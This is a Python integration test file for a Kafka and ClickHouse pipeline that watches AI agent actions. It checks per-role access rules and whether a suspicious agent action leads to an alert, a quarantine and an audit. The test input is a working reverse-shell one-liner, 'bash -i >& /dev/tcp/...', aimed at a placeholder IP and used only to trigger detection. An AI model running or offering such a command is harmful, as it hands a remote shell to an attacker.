"""The ACLs name the topics there are, keep the raw class apart, and a stage runs under them."""

import os
import subprocess
import time
from collections.abc import Callable, Iterable, Iterator
from datetime import UTC, datetime
from functools import partial
from pathlib import Path
from typing import Any

import httpx
import msgspec
import pytest
from confluent_kafka import Consumer, KafkaError, TopicPartition
from confluent_kafka.admin import (
    AdminClient,
    ScramCredentialInfo,
    ScramMechanism,
    UserScramCredentialUpsertion,
)

from infra.kafka import acls
from infra.kafka.broker import KafkaBroker, free_ports
from tachograph.pipeline.errors import TachoError
from tachograph.pipeline.kafka.topics import provision
from tachograph.pipeline.kafka.writer import Writer
from tachograph.pipeline.settings import ClickHouseSettings, KafkaSettings, Settings
from tachograph.pipeline.store.clickhouse import Connection
from tachograph.pipeline.up.command import STAGES
from tachograph.schemas import contracts
from tests.e2e.pipeline import CLI, Stage, share_compiled_rules, without_ours
from tests.pipeline.forward.conftest import webhook
from tests.pipeline.forward.receivers import WebhookReceiver
from tests.pipeline.verify.conftest import clickhouse
from tests.waiting import WAIT_S, eventually

__all__ = ["clickhouse", "webhook"]

TOPICS = contracts.topics()
RAW = {name for name, topic in TOPICS.items() if topic.raw}
MAY_READ_RAW = {"normalize", "store", "replay"}


def test_the_file_names_topics_that_there_are() -> None:
    named = {
        topic for rights in acls.roles().values() for topic in rights["read"] + rights["write"]
    }
    assert named == set(TOPICS)


def test_the_raw_class_is_read_by_those_alone_who_must() -> None:
    readers = {role for role, rights in acls.roles().items() if RAW & set(rights["read"])}
    assert readers == MAY_READ_RAW
    assert RAW & set(acls.roles()["store"]["read"]) == {"agent.dead_letters"}


@pytest.mark.parametrize(
    ("topic", "writers"),
    [
        ("agent.actions", {"normalize"}),
        ("agent.state", {"normalize"}),
        ("agent.alerts", {"triage"}),
        ("agent.tree_heads", {"notarize"}),
    ],
)
def test_a_topic_is_written_by_its_owner_alone(topic: str, writers: set[str]) -> None:
    assert {r for r, rights in acls.roles().items() if topic in rights["write"]} == writers


def test_they_are_printed_for_the_command_that_operators_know() -> None:
    lines = [acls.command(acl) for acl in acls.bindings({"auditor": "User:CN=audit"})]
    assert (
        "kafka-acls.sh --bootstrap-server $BOOTSTRAP --command-config $CONFIG --add"
        " --allow-principal 'User:tacho-notarize' --operation Write --topic 'agent.tree_heads'"
    ) in lines
    assert any("'User:CN=audit'" in line for line in lines)
    assert any(line.endswith("--group 'tacho.detect' --resource-pattern-type prefixed")
               for line in lines)  # fmt: skip


PASSWORD = "only-for-this-test"


@pytest.fixture
def guarded(
    private_kafka: Callable[..., KafkaBroker], clickhouse: ClickHouseSettings
) -> KafkaBroker:
    """A broker on which everybody may do what the file says."""
    broker = private_kafka(secure=True, authorized=True)
    admin = AdminClient({"bootstrap.servers": broker.bootstrap_servers})
    owner = KafkaSettings(bootstrap=broker.bootstrap_servers)
    provision(Settings(kafka=owner, clickhouse=clickhouse))
    logins = admin.alter_user_scram_credentials(
        [
            UserScramCredentialUpsertion(
                f"tacho-{role}",
                ScramCredentialInfo(ScramMechanism.SCRAM_SHA_512, 4096),
                PASSWORD.encode(),
            )
            for role in acls.roles()
        ]
    )
    for future in logins.values():
        future.result(WAIT_S)
    assert acls.apply(admin) == len(list(acls.bindings()))
    return broker


def as_role(role: str, broker: KafkaBroker, clickhouse: ClickHouseSettings, home: Path) -> Settings:
    """How a role logs in."""
    login = {
        **broker.credentials.client_config(),
        "sasl.username": f"tacho-{role}",
        "sasl.password": PASSWORD,
    }
    kafka = KafkaSettings(bootstrap=broker.secure_bootstrap_servers, security=login)
    return Settings(kafka=kafka, clickhouse=clickhouse, home=home)


def refused(settings: Settings, group: str, topic: str) -> bool:
    """Whether reading a topic is refused."""
    config: dict[str, Any] = {**settings.kafka.client_config(), "group.id": group}
    consumer = Consumer(config)
    asked = consumer.list_topics(topic, WAIT_S).topics[topic].error
    if asked is not None:
        consumer.close()
        return bool(asked.code() == KafkaError.TOPIC_AUTHORIZATION_FAILED)
    consumer.assign([TopicPartition(topic, 0, 0)])
    end = time.monotonic() + WAIT_S
    try:
        while time.monotonic() < end:
            message = consumer.poll(0.5)
            if message is not None:
                error = message.error()
                return bool(error and error.code() == KafkaError.TOPIC_AUTHORIZATION_FAILED)
    finally:
        consumer.close()
    raise AssertionError("the broker says nothing")


POLICY = """
[[respond]]
kind = "quarantine"
reason = "Stopped until somebody has looked."
min_severity = "low"
session_only = false
expires_after_s = 900
"""
ACTION = {
    "kind": "process",
    "agent_id": "bot",
    "session_id": "s-1",
    "process_command_line": "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
}
# What comes of it, wherever it lies.
THE_ALERT = "SELECT alert_id FROM tacho.alerts WHERE agent_id = 'bot'"
COMES = ("actions", "signals", "alerts", "agent_state", "directives", "incidents", "tree_heads")


class Staff:
    """Stages and commands as processes, each under the login of its role and nobody's else."""

    def __init__(self, broker: KafkaBroker, clickhouse: ClickHouseSettings, folder: Path) -> None:
        self._folder, self._stages = folder, list[Stage]()
        self.door = f"http://127.0.0.1:{(port := free_ports(1)[0])}"
        (folder / "policy.toml").write_text(POLICY, "utf-8")
        self._environment = {
            **without_ours(os.environ),
            "KAFKA_BOOTSTRAP_SERVERS": broker.secure_bootstrap_servers,
            "KAFKA_SECURITY_PROTOCOL": "SASL_SSL",
            "KAFKA_SASL_MECHANISM": "SCRAM-SHA-512",
            "KAFKA_SASL_PASSWORD": PASSWORD,
            "KAFKA_SSL_CA_LOCATION": str(broker.credentials.ca_path),
            "CLICKHOUSE_URL": clickhouse.url,
            "CLICKHOUSE_USER": clickhouse.user,
            "CLICKHOUSE_PASSWORD": clickhouse.password,
            "TACHO_HOME": str(folder / "home"),
            "TACHO_DOOR_PORT": str(port),
            "TACHO_TRIAGE_POLICY": str(folder / "policy.toml"),
            "TACHO_FORWARD_CONFIG": str(folder / "forward.toml"),
            "TACHO_HEAD_EVERY_S": "1",
            "HOOK_SECRET": "only-for-this-test",
        }
        share_compiled_rules(folder / "home")

    def _as(self, role: str) -> dict[str, str]:
        return {**self._environment, "KAFKA_SASL_USERNAME": f"tacho-{role}"}

    def start(self, names: Iterable[str], hook: str) -> None:
        """Start stages, of which one forwards to a webhook."""
        options = {"name": "hook", "type": "webhook", "url": hook, "secret_env": "HOOK_SECRET"}
        lines = [f'{name} = "{value}"' for name, value in options.items()]
        (self._folder / "forward.toml").write_text("\n".join(["[[destination]]", *lines]), "utf-8")
        for name in names:
            self._stages.append(Stage(name, self._as(name), self._folder / f"{name}.log"))
            self._stages[-1].start()

    def run(self, role: str, *words: str) -> str:
        """What a command answers; it must go well."""
        done = subprocess.run(
            (*CLI, *words),
            env=self._as(role),
            check=False,
            capture_output=True,
            text=True,
            timeout=WAIT_S,
        )
        assert done.returncode == 0, f"{role}: {done.stdout}{done.stderr}"
        return done.stdout

    def check(self) -> None:
        """Nobody has ended."""
        for stage in self._stages:
            assert stage.running, f"{stage.name} ended: {stage.last_words()}"

    def stop(self) -> None:
        """All end by themselves and well, and nobody was refused anything."""
        for stage in self._stages:
            stage.ask_to_stop()
        for stage in self._stages:
            stage.has_stopped()
            said = stage.log.read_text("utf-8", errors="replace")
            assert "uthoriz" not in said, said

    def abandon(self) -> None:
        """End whoever is left, after a test that failed."""
        for stage in self._stages:
            stage.abandon()


@pytest.fixture
def staff(guarded: KafkaBroker, clickhouse: ClickHouseSettings, tmp_path: Path) -> Iterator[Staff]:
    made = Staff(guarded, clickhouse, tmp_path)
    yield made
    made.abandon()


def test_under_them_every_stage_does_its_work_people_theirs_and_nobody_does_more(
    guarded: KafkaBroker,
    clickhouse: ClickHouseSettings,
    staff: Staff,
    webhook: WebhookReceiver,
    tmp_path: Path,
) -> None:
    staff.start(STAGES, webhook.url)

    def is_ready() -> bool:
        staff.check()
        try:
            # Plain HTTP: no certificates are to be loaded each time.
            return bool(httpx.get(f"{staff.door}/readyz", verify=False).is_success)  # noqa: S501
        except httpx.TransportError:
            return False

    eventually(is_ready, "the door is open")
    action = {**ACTION, "event_time": datetime.now(UTC)}
    ndjson = {"content-type": "application/x-ndjson"}
    body = msgspec.json.encode(action)
    posted = httpx.post(f"{staff.door}/v1/actions", content=body, headers=ndjson, timeout=WAIT_S)
    assert posted.is_success, posted.text
    with Connection(ClickHouseSettings(url=clickhouse.url), reads_only=True) as reader:

        def has(table: str) -> bool:
            staff.check()
            return bool(reader.rows(f"SELECT 1 FROM tacho.{table} LIMIT 1"))

        for table in COMES:
            eventually(partial(has, table), f"something in {table}")
        [(alert_id,)] = reader.rows(THE_ALERT)
    eventually(lambda: bool(webhook.requests), "the alert is forwarded")
    staff.run("operator", "alert", "note", alert_id, "looked at")
    with Connection(ClickHouseSettings(url=clickhouse.url), reads_only=True) as reader:
        noted = "SELECT 1 FROM tacho.dispositions"
        eventually(lambda: bool(reader.rows(noted)), "the note is stored")
    assert "HOLDS" in staff.run("auditor", "verify")
    staff.stop()

    notary = as_role("notarize", guarded, clickhouse, tmp_path)
    auditor = as_role("auditor", guarded, clickhouse, tmp_path)
    producer = as_role("producer", guarded, clickhouse, tmp_path)
    assert not refused(auditor, "tacho.verify", "agent.alerts")
    for settings, group in (
        (notary, "tacho.notarize"),
        (auditor, "tacho.verify"),
        (producer, "agent.one"),
        (as_role("detect", guarded, clickhouse, tmp_path), "tacho.detect"),
        (as_role("operator", guarded, clickhouse, tmp_path), "tacho.tail"),
    ):
        assert refused(settings, group, "agent.raw")
    for settings, topic in (
        (auditor, "agent.tree_heads"),
        (notary, "agent.alerts"),
        (producer, "agent.actions"),
    ):
        with pytest.raises(TachoError, match=r"[Aa]uthorization"):
            _write(settings, topic)
    _write(producer, "agent.raw")


def _write(settings: Settings, topic: str) -> None:
    # Without idempotence: who may write nowhere gets no id of a producer, whatever the topic.
    quick = {"delivery.timeout.ms": 60_000, "enable.idempotence": False}
    writer = Writer(settings, overrides=quick)
    writer.send(topic, b"{}", partition=0)
    writer.flush(WAIT_S)
